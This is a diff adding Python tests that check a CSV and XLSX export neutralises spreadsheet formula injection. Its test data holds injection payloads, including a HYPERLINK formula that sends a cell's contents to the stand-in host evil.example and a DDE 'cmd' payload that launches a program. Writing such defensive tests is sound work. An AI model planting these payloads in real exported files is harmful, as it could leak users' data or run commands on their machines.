@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import math
+import re
 from datetime import date
 
 import openpyxl
@@ -248,3 +250,75 @@ def test_score_histogram_ticks_whole_reps() -> None:
     assert few.data[0].xbins.start == 0  # bins [40, 50), [50, 60), ... as counted
     many = score_histogram(pd.Series([0.95] * 23 + [1.2]))  # 23 reps in one bin
     assert many.layout.yaxis.dtick == 5
+
+
+#: Cells a spreadsheet would run as formulas (issue #14 item 6), each in a text column.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&B2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",  # a full-width equals sign
+]
+HOSTILE_FRAME = pd.DataFrame(
+    {
+        "Account": HOSTILE,
+        "Owner": pd.array(["Ann", "-Bo", None, "=x", "1-2", "−$9,280", "@ann", "Cy"], "string"),
+        "Segment": pd.Categorical(["=A1", "b", "b", "b", "b", "b", "b", "b"]),
+        "Amount": [-9280.5, -1.0, 0.0, 2.5, -3.0, 4.0, 5.0, -6.0],
+        "Deals": pd.array([-1, None, 3, 4, 5, 6, 7, 8], dtype="Int64"),
+        "=cmd|' /C calc'!A0": ["x"] * 8,  # a header
+    }
+)
+HOSTILE_CONTEXT = {
+    "Page": "Activity — Forgotten clients",
+    "Accounts": 'Acme,=HYPERLINK("http://evil.example","x"); -1+2\n=1+1\t@A1,"=2"',
+}
+
+
+def test_csv_export_neutralises_every_formula_and_keeps_numbers() -> None:
+    data = csv_bytes(HOSTILE_FRAME, HOSTILE_CONTEXT).decode()
+    back = pd.read_csv(io.StringIO(data), comment="#")
+    assert back["Account"].tolist() == [f"'{text}" for text in HOSTILE]
+    owners = back["Owner"].fillna("—").tolist()
+    assert owners == ["Ann", "'-Bo", "—", "'=x", "1-2", "−$9,280", "'@ann", "Cy"]
+    assert back["Segment"].iloc[0] == "'=A1"
+    assert back["Amount"].tolist() == HOSTILE_FRAME["Amount"].tolist()  # numbers, negatives too
+    assert back["Deals"].fillna(0).tolist() == [-1, 0, 3, 4, 5, 6, 7, 8]
+    assert back.columns[-1] == "'=cmd|' /C calc'!A0"
+    # no cell, split as a spreadsheet would (commas, semicolons, tabs), starts a formula
+    lines = data.splitlines()
+    assert lines[:2] == [
+        "# Page: Activity — Forgotten clients",
+        '# Accounts: Acme,\'=HYPERLINK("http://evil.example",\'"x"); \'-1+2 =1+1\t\'@A1,\'"=2"',
+    ]
+    for line in lines[:2]:
+        for field in re.split(r"[,;\t]", line)[1:]:
+            assert field.lstrip()[:1] not in {"=", "+", "-", "@", '"'}, field
+    for row in csv.reader(lines[2:]):
+        for cell in row:
+            if not re.fullmatch(r"-?[0-9.]+", cell):
+                assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", " ", "＝"}, cell
+
+
+def test_xlsx_export_has_no_formula_and_keeps_text_and_numbers() -> None:
+    data = xlsx_bytes(HOSTILE_FRAME, HOSTILE_CONTEXT, sheet="Forgotten clients")
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    # the text is kept as it is, marked as text (Excel's quote prefix: typed as '=...)
+    sheet = book["Forgotten clients"]
+    accounts = [sheet.cell(row, 1) for row in range(2, 10)]
+    assert [cell.value for cell in accounts] == [t.replace("\r", "\n") for t in HOSTILE]  # XML
+    assert all(cell.quotePrefix and cell.data_type == "s" for cell in accounts)
+    assert sheet.cell(1, 6).value == "=cmd|' /C calc'!A0" and sheet.cell(1, 6).quotePrefix
+    assert not sheet.cell(2, 2).quotePrefix  # "Ann" needs no mark
+    amounts = [sheet.cell(row, 4) for row in range(2, 10)]
+    assert [cell.value for cell in amounts] == HOSTILE_FRAME["Amount"].tolist()
+    assert all(cell.data_type == "n" and not cell.quotePrefix for cell in amounts)
+    filters = book["Filters"]
+    assert filters.cell(3, 2).value == HOSTILE_CONTEXT["Accounts"]
+    assert filters.cell(3, 2).quotePrefix is False  # begins with "Acme": one cell, no formula
